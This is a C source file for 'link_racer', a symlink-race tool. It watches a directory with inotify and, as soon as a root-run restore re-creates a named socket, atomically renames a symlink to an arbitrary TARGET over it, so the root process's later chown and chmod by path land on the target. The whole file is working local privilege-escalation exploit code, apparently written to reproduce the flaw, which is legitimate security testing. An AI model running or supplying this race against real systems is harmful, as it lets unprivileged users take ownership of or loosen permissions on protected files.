/* link_racer DIR NAME TARGET: what an unprivileged user does to a restore that re-creates the
 * socket DIR/NAME as root and then changes its owner and mode by path. Whenever NAME is created
 * in DIR (inotify IN_CREATE: bind(2) made it), a prepared link DIR/.racer.lnk -> TARGET is
 * renamed over it at once (rename(2) is atomic). Prints "swapped N" per swap; runs until
 * killed. */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: link_racer DIR NAME TARGET\n");
		return 2;
	}
	const char *dir = argv[1], *name = argv[2], *target = argv[3];
	char lnk[PATH_MAX], dst[PATH_MAX];
	snprintf(lnk, sizeof lnk, "%s/.racer.lnk", dir);
	snprintf(dst, sizeof dst, "%s/%s", dir, name);
	int in = inotify_init1(0);
	if (in < 0 || inotify_add_watch(in, dir, IN_CREATE) < 0) {
		perror("link_racer: inotify");
		return 1;
	}
	char buf[4096] __attribute__((aligned(8)));
	long swaps = 0;
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;) {
		unlink(lnk);
		if (symlink(target, lnk) != 0) {
			perror("link_racer: symlink");
			return 1;
		}
		for (int seen = 0; !seen;) {
			ssize_t n = read(in, buf, sizeof buf);
			if (n < 0) {
				if (errno == EINTR)
					continue;
				perror("link_racer: read");
				return 1;
			}
			for (char *p = buf; p < buf + n;) {
				struct inotify_event *e = (struct inotify_event *)p;
				if (e->len && strcmp(e->name, name) == 0)
					seen = 1;
				p += sizeof(*e) + e->len;
			}
		}
		if (rename(lnk, dst) == 0)
			printf("swapped %ld\n", ++swaps);
	}
}
